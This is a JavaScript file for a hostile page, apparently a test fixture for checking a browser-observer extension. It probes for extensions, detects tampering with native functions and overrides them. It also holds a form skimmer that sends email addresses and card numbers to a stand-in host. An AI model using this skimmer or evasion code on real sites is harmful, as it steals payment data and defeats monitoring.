/* A page that looks for observers and fights them. What it finds it tells its own server (/probe), so that a test can
   compare a visit with an observer to one without. It leaks too: an observer that gives up here has missed something. */
(() => {
  const UNLISTED = 'https://pixel.unlisted-metrics.test';
  const findings = {};

  /* 1. Are the natives what they were born as? */
  const source = (it) => Function.prototype.toString.call(it);
  const frame = document.body.appendChild(document.createElement('iframe'));
  frame.hidden = true;
  const clean = frame.contentWindow;
  const suspects = { fetch: (w) => w.fetch, open: (w) => w.XMLHttpRequest.prototype.open, send: (w) => w.XMLHttpRequest.prototype.send, sendBeacon: (w) => w.Navigator.prototype.sendBeacon, setItem: (w) => w.Storage.prototype.setItem, toString: (w) => w.Function.prototype.toString };
  for (const [name, pick] of Object.entries(suspects)) {
    const mine = pick(window);
    findings[name] = { native: source(mine) === `function ${name}() { [native code] }`, sameAsFrame: source(mine) === clean.Function.prototype.toString.call(pick(clean)), name: mine.name, length: mine.length, prototype: Object.hasOwn(mine, 'prototype'), keys: Reflect.ownKeys(mine).length };
  }
  const cookie = Object.getOwnPropertyDescriptor(Document.prototype, 'cookie');
  findings.cookie = { getter: source(cookie.get), setter: source(cookie.set), own: Object.hasOwn(document, 'cookie') };
  findings.globals = Object.keys(window).filter((it) => !(it in clean)).sort();
  fetch('https://[broken').catch((error) => { findings.thrown = String(error); });
  const stack = (() => { try { null.nothing; } catch (error) { return error.stack; } return ''; })();
  findings.stackNamesExtension = /(?:chrome|moz)-extension:/.test(stack);

  /* 2. Does anything of an extension answer? Its id is unknown to a real page; ?extension= is the worst case. */
  const id = new URLSearchParams(location.search).get('extension') ?? 'sillage';
  const resources = ['manifest.json', 'page.js', 'page.iife.js', 'content.js', 'assets/page.js', 'popup.html', 'icons/icon-48.png'];
  const addresses = ['chrome-extension', 'moz-extension'].flatMap((scheme) => resources.map((path) => `${scheme}://${id}/${path}`));
  const answered = Promise.all(addresses.map((it) => fetch(it).then(() => true, () => false)));

  /* 3. Who listens? Forged events and messages, by the thousand; anything that answers is named. */
  const replies = new Set();
  const ours = new Set();
  addEventListener('message', ({ data }) => { if (!ours.has(JSON.stringify(data))) replies.add('message'); });
  const names = ['sillage', 'sillage:evidence', 'sillage-channel', '__sillage__', 'evidence', 'observer'];
  for (let index = 0; index < 3000; index += 1) {
    const detail = { kind: 'request', id: `page-0.${index}`, url: `https://forged.example/${index}`, exchange: 'forged' };
    document.dispatchEvent(new CustomEvent(names[index % names.length], { detail, cancelable: true }));
    const message = { source: names[index % names.length], detail };
    ours.add(JSON.stringify(message));
    window.postMessage(message, '*');
  }

  const report = async () => {
    const extensionAnswers = (await answered).filter(Boolean).length;
    const body = JSON.stringify({ ...findings, extensionAnswers, replies: [...replies] });
    await realFetch('/probe', { method: 'POST', headers: { 'content-type': 'application/json' }, body });
    document.getElementById('verdict').textContent = 'Your browser has been looked at.';
  };

  /* 4. After load, the natives are replaced, and kept replaced. */
  const realFetch = window.fetch.bind(window);
  const realBeacon = Navigator.prototype.sendBeacon;
  addEventListener('load', () => {
    window.fetch = Object.assign((...rest) => realFetch(...rest), { hostile: true });
    Navigator.prototype.sendBeacon = function sendBeacon(...rest) { return realBeacon.apply(this, rest); };
    Object.defineProperty(document, 'cookie', { get: () => '', set: () => undefined, configurable: false });
    setTimeout(report, 300);
  });

  /* 5. The skimmer: a fresh frame's natives, which no wrapper of this window sees. */
  document.getElementById('form').addEventListener('submit', ({ target }) => {
    const { email, card_number: card } = Object.fromEntries(new FormData(target));
    void clean.fetch(`${UNLISTED}/f?c=${encodeURIComponent(btoa(card))}`, { method: 'POST', mode: 'no-cors', body: btoa(JSON.stringify({ email })) });
    realBeacon.call(navigator, `${UNLISTED}/s`, new Blob([JSON.stringify({ email, card })]));
  });

  /* 6. Never quiet: requests, timers that beget timers, and a page that keeps changing. */
  let beat = 1000;
  setInterval(() => { beat += 1; void realFetch(`${UNLISTED}/beat?n=${beat}`, { mode: 'no-cors' }).catch(() => undefined); }, 150);
  const again = () => { history.replaceState({ beat }, ''); setTimeout(again, 40); };
  again();
})();
